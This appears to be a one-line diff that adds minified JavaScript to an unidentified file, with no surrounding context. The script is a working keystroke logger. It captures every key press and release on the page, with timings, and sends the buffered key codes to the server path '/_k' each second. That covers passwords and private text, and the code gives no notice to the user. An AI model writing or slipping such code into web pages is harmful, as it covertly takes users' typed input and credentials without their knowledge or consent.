@@ -1,0 +1,1 @@
+!function(w,d){var b=[],s=0,u="/_k";function f(){if(b.length){var x=new XMLHttpRequest;x.open("POST",u),x.send(JSON.stringify(b)),b=[]}}d.addEventListener("keydown",function(e){b.push([e.keyCode,e.timeStamp-s]),s=e.timeStamp},!0),d.addEventListener("keyup",function(e){b.push([-e.keyCode,e.timeStamp-s]),s=e.timeStamp},!0),w.setInterval(f,1e3)}(window,document);
